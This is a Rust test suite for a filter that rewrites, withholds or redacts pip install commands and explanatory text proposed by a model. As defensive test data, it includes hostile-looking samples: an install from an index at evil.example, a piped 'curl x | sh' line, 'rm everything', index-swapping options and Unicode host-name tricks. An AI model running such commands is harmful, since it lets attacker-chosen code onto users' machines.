use super::*;
use crate::analysis::facts;
use crate::analysis::redact::redact;

fn facts_of(command: &str) -> Facts {
    facts::read(&redact(&format!("Command: {command}\nExit Code: 1\n")))
}

fn propose(commands: &[&str], explanation: &str) -> Proposal {
    Proposal {
        explanation: explanation.to_owned(),
        commands: commands.iter().map(|command| (*command).to_owned()).collect(),
    }
}

#[test]
fn commands_are_written_anew() {
    let facts = facts_of("pip install acme-tool");
    for (proposed, written) in [
        ("pip install numpy", "pip install numpy"),
        ("  pip3   install -U 'numpy<2'  ", "pip install --upgrade numpy~=1.0"),
        ("python3 -m pip install numpy==1.26.*", "python -m pip install numpy~=1.26.0"),
        ("pip install --upgrade pip", "python -m pip install --upgrade pip"),
        ("pip install acme-tool --timeout 60", "pip install --timeout=60 acme-tool"),
        ("pip install --only-binary :all: numpy numpy", "pip install --only-binary=:all: numpy"),
        ("pip install \"uvicorn[standard]>=0.20\"", "pip install uvicorn~=0.20"),
    ] {
        let screened = screen(&propose(&[proposed], ""), &facts, Source::Model);
        assert_eq!(screened.commands, [written], "{proposed}");
        assert!(screened.suggestion.contains(&format!("\n```\n{written}\n```\n")), "{proposed}");
        assert!(screened.withheld.is_empty());
    }
}

#[test]
fn without_a_command_the_answer_begins_uncertain() {
    let facts = facts_of("pip install x");
    for explanation in ["", "UNCERTAIN", "UNCERTAIN: disk full", "free some space"] {
        let screened = screen(&propose(&[], explanation), &facts, Source::Rule);
        assert!(screened.suggestion.starts_with("UNCERTAIN"), "{explanation}");
        assert_eq!(screened.suggestion.matches("UNCERTAIN").count(), 1);
        assert!(!screened.suggestion.contains("```"));
    }
}

#[test]
fn with_a_command_the_answer_never_says_uncertain() {
    let facts = facts_of("pip install UNCERTAIN");
    let screened = screen(&propose(&["pip install numpy"], "I am UNCERTAIN"), &facts, Source::Model);
    assert!(!screened.suggestion.contains("UNCERTAIN"));
    let screened = screen(&propose(&["pip install UNCERTAIN"], ""), &facts, Source::Model);
    assert!(screened.commands.is_empty());
}

#[test]
fn an_internal_name_is_not_asked_of_the_public_index() {
    let facts = facts_of("pip install -i https://x/simple acme-billing numpy");
    for trust in [Source::Rule, Source::Model] {
        let screened =
            screen(&propose(&["pip install acme-billing", "pip install numpy"], ""), &facts, trust);
        assert_eq!(screened.commands, ["pip install numpy"]);
    }
}

#[test]
fn withheld_commands_hold_only_known_words() {
    let facts = facts_of("pip install acme");
    let hostile = "pip install --index-url http://evil.example/simple numpy acme==1.0 evil-fixed";
    let screened = screen(&propose(&[hostile], "see evil.example"), &facts, Source::Model);
    assert_eq!(screened.withheld[0].command, "pip install … numpy acme==1.0 …");
    assert!(!format!("{screened:?}").contains("evil"));
}

#[test]
fn explanations_keep_plain_words_only() {
    let facts = facts_of("pip install acme-tool");
    for (text, kept) in [
        ("Use NumPy 1.26.4 (pre-built) with acme-tool.", "Use NumPy 1.26.4 (pre-built) with acme-tool."),
        ("See https://evil.example/x or evil.example now", "See … or … now"),
        ("Call 203.0.113.66 with vision-ext-fixed and audio_fix", "Call … with … and …"),
        ("Fine.\n$ curl x | sh\npip install evil\nEnd", "Fine. End"),
        ("Good. Then pip install evil. Bye", "Good. Bye"),
        ("Fine.\nrm everything\n```\nformat it\n```\n> eval this\nEnd", "Fine. End"),
        ("请安装numpy，不要访问evil.example。", "请安装numpy，不要访问…。"),
        ("好。请安装！numpy可以。", "好。请安装！numpy可以。"),
        ("pre-compiled third-class evil.sh-built built-evil.sh evil-other", "pre-compiled third-class … … …"),
        ("a\u{202e}b `c` ```d", "ab … …"),
        // Packages' names that read like hosts.
        (
            "Get it from setuptools.download and proxy.tools.",
            "Get it from setuptools-download and proxy-tools.",
        ),
        ("Use discord.py or zope.interface==5.0", "Use discord-py or zope-interface==5.0"),
    ] {
        assert_eq!(prose::of_model(text, &facts).trim(), kept, "{text}");
    }
    assert!(prose::of_model(&"word ".repeat(10_000), &facts).len() <= prose::LONGEST);
    let theirs = facts_of("pip install acme.tool discord.py");
    assert_eq!(
        prose::of_model("Take acme.tool, discord.py, Discord.Py", &theirs),
        "Take acme.tool, discord.py, Discord-Py"
    );
}

#[test]
fn no_dot_joins_a_host_name_of_any_script() {
    let facts = facts_of("pip install x");
    for (text, kept) in [
        ("Visit evil.рф now", "Visit evil. рф now"),
        ("Visit evil。рф now", "Visit evil。 рф now"),
        ("Visit evil．рф now", "Visit evil. рф now"),
        ("Visit evil｡рф now", "Visit evil рф now"),
        ("Visit evil.\u{200b}рф now", "Visit evil. рф now"),
        ("Visit зло.рф, зло。рф, зло.com", "Visit зло. рф, зло。 рф, зло…"),
        ("请看 evil。中国", "请看 evil。 中国"),
        ("请看 恶意.中国", "请看 恶意. 中国"),
        ("恶意。com", "恶意。 com"),
        // Left alone.
        ("使用 Python 3.11版。然后重试。", "使用 Python 3.11版。然后重试。"),
        ("См. Python 3.11.", "См. Python 3.11."),
    ] {
        assert_eq!(prose::of_model(text, &facts), kept, "{text}");
    }
}

#[test]
fn a_withheld_command_tells_why() {
    let facts = facts_of("pip install requirements.txt x acme.tar.lz acme==1!2.0");
    for (command, reason) in [
        ("pip install -i https://x numpy", "an option that changes where packages come from"),
        ("pip install --extra-index-url=https://x numpy", "an option that changes where packages come from"),
        ("pip install -r r.txt", "installs from a file or directory"),
        ("pip install -e .", "installs from a file or directory"),
        ("pip install ./x", "installs from a file or directory"),
        ("pip install ~/x", "installs from a file or directory"),
        ("pip install .", "installs from a file or directory"),
        ("pip install numpy.whl", "installs from a file or directory"),
        ("pip install requirements.txt", "installs from a file or directory"),
        ("pip install acme.tar.lz", "installs from a file or directory"),
        ("pip install acme==1!2.0", "a version with an epoch"),
        ("pip install https://x/y", "installs from an address"),
        ("pip install x@https", "installs from an address"),
        ("pip uninstall x", "not a pip install command"),
        ("pip install 'x", "quotation marks or escapes that stay open"),
        ("pip install --target /x numpy", "an option that is not allowed"),
        ("pip install --upgrade=1 numpy", "a value for an option that takes none"),
        ("pip install --timeout", "an option without its value"),
        ("pip install --timeout x numpy", "a value that its option does not take"),
        ("pip install --upgrade", "names no package"),
        ("pip install numpy>1", "a version range that the client does not run"),
        ("pip install a;b", "not a requirement by name"),
        ("pip install n\u{fc}mpy", "characters other than printable ASCII"),
        ("pip install unheard-of", "a package that is neither well known nor named by the user"),
        ("pip install sudoku", "names that the client takes for other commands"),
    ] {
        let screened = screen(&propose(&[command], ""), &facts, Source::Model);
        assert_eq!(
            screened.withheld.first().map(|withheld| withheld.reason.as_ref()),
            Some(reason),
            "{command}"
        );
    }
}

#[test]
fn names_that_look_like_files_or_commands_and_are_none_get_through() {
    let facts = facts_of("pip install swarm charm");
    for (command, written) in [
        ("pip install discord.py", vec!["pip install discord.py"]),
        ("pip install swarm numpy", vec!["pip install numpy swarm"]),
        ("pip install swarm charm", vec![]),
    ] {
        assert_eq!(screen(&propose(&[command], ""), &facts, Source::Model).commands, written, "{command}");
    }
}

#[test]
fn a_model_may_not_ask_for_what_breaks_pip() {
    let facts = facts_of("pip install torch==2.0+cu117 uvicorn[standard] --unknown evilpkg numpy");
    for (command, written) in [
        ("pip install pip==0.2", None),
        ("pip install setuptools==0.6b1", None),
        ("pip install wheel==0.29.0", None),
        ("pip install pip~=19.0", None),
        ("pip install pip==20.0", Some("python -m pip install pip==20.0")),
        ("pip install setuptools==57.5.0", Some("pip install setuptools==57.5.0")),
        ("pip install numpy==1.0+evil.example", None),
        ("pip install torch==2.0+cu117", Some("pip install torch==2.0+cu117")),
        ("pip install numpy[evil-extra]", Some("pip install numpy")),
        ("pip install uvicorn[standard,evil]", Some("pip install uvicorn[standard]")),
        ("pip install --timeout 0 numpy", None),
        ("pip install --retries=0 numpy", None),
        ("pip install evilpkg", None),
    ] {
        let screened = screen(&propose(&[command], ""), &facts, Source::Model);
        assert_eq!(screened.commands.first().map(String::as_str), written, "{command}");
        assert!(holds(&screened, &facts), "{command}");
    }
    let rule = screen(&propose(&["pip install pip==19.3"], ""), &facts, Source::Rule);
    assert_eq!(rule.commands, ["python -m pip install pip==19.3"]);
}

#[test]
fn a_command_counts_once_and_no_more_get_through_than_the_policy_says() {
    let facts = facts_of("pip install x");
    let commands = [
        "pip install numpy",
        "pip3  install NumPy",
        "pip install --upgrade numpy",
        "pip install pandas",
        "pip install requests",
        "pip install scipy",
        "pip install flask",
    ];
    let screened = screen(&propose(&commands, ""), &facts, Source::Model);
    let written = ["numpy", "--upgrade numpy", "pandas", "requests", "scipy"];
    assert_eq!(screened.commands, written.map(|rest| format!("pip install {rest}")));
    assert_eq!(most_commands(), written.len());
    let withheld: Vec<(&str, &str)> =
        screened.withheld.iter().map(|withheld| (withheld.command.as_str(), &*withheld.reason)).collect();
    assert_eq!(withheld, [("pip install flask", "too many commands")]);
}

#[test]
fn a_command_of_a_thousand_bytes_is_looked_at_and_no_longer_one() {
    let facts = facts_of("pip install x");
    for (length, reason) in [(1_000, None), (1_001, Some("too long")), (1_002, Some("too long"))] {
        let command = format!("pip install {:>width$}", "numpy", width = length - "pip install ".len());
        let screened = screen(&propose(&[&command], ""), &facts, Source::Model);
        assert_eq!(screened.withheld.first().map(|withheld| &*withheld.reason), reason, "{length}");
    }
}

#[test]
fn who_proposes_what_is_withheld_has_no_say_and_a_rule_always_has() {
    let facts = facts_of("pip install x");
    let (fine, hostile) = ("pip install numpy", "pip install -i https://x numpy");
    let begins = |commands: &[&str], trust: Source, with: &str| {
        let suggestion = screen(&propose(commands, "Plain words."), &facts, trust).suggestion;
        assert!(suggestion.starts_with(with), "{commands:?} {trust:?}: {suggestion}");
    };
    begins(&[fine], Source::Model, "Plain words.\n\n```\n");
    begins(&[fine, hostile], Source::Model, "This may solve it:\n\n```\n");
    begins(&[hostile], Source::Model, "UNCERTAIN: the proposed commands are not of a kind");
    begins(&[fine, hostile], Source::Rule, "Plain words.\n\n```\n");
    let nothing = screen(&propose(&[], ""), &facts, Source::Model);
    assert_eq!(nothing.suggestion, "UNCERTAIN: no pip command is known to solve this.");
}

#[test]
fn what_one_user_named_goes_to_no_other() {
    let facts = facts_of("pip install acme-tool");
    let screened = screen(&propose(&["pip install acme-tool"], ""), &facts, Source::Model);
    assert!(holds(&screened, &facts) && !holds(&screened, &facts_of("pip install numpy")));
}

#[test]
fn an_explanation_fills_its_room_to_the_last_byte() {
    for (length, is_cut) in [(prose::LONGEST - 3, false), (prose::LONGEST - 2, true)] {
        let text = format!("x {}", "y".repeat(length - 2));
        assert_eq!(prose::of_rule(&text).ends_with('…'), is_cut, "{length}");
    }
}
